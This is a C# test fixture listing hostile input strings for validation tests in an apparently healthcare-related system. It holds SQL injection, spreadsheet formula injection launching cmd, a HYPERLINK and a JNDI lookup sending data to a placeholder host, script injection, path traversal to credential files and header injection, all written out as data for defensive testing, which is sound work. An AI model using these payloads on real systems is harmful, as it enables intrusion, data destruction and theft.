namespace OnePlace.Testing.Hostile;

/// <summary>
/// Strings an attacker or a broken sender puts in a field (OWASP Web Security Testing Guide, input validation tests;
/// OWASP "CSV injection"): SQL, formula, markup, path traversal, CRLF, control characters, numbers and dates beyond
/// range, invalid NHS numbers and codes. Tests splice these into otherwise valid input.
/// </summary>
public static class HostileStrings
{
    public static readonly string[] All =
    [
        "' OR '1'='1",
        "1; DROP TABLE people; --",
        "\"; DELETE FROM audit_log; --",
        "Robert'); DROP TABLE referrals;--",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
        "+SUM(1+1)*cmd|' /C notepad'!A1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "C:\\Windows\\system32\\config",
        "/dev/zero",
        "line one\r\nSet-Cookie: injected=1",
        "a\rb\nc",
        "\0",
        "\u0007\u001b[31mred",
        "\u202Egnp.exe",
        "\uFEFF",
        "\uD800",
        "9999999999",
        "999 000 0019",
        "0000000000",
        "12345",
        "99999999999999999999999999999999999999",
        "-79228162514264337593543950336",
        "1e308",
        "NaN",
        "-0",
        "0x7FFFFFFF",
        "2147483648",
        "9223372036854775808",
        "0000-00-00",
        "9999-12-31",
        "0001-01-01",
        "2025-02-30",
        "31/12/2025",
        "1900-01-01T25:61:61Z",
        "ZZ99",
        "U07.1X",
        "NOTAPRACTICE",
        "X99999",
        "",
        " ",
        "\"",
        "\"\"\"",
        ",,,,",
        new string('A', 5000),
        "Zoë Ñúñez 🙂",
        "%00%2e%2e%2f",
        "${jndi:ldap://example.invalid/a}",
        "{{7*7}}",
    ];
}
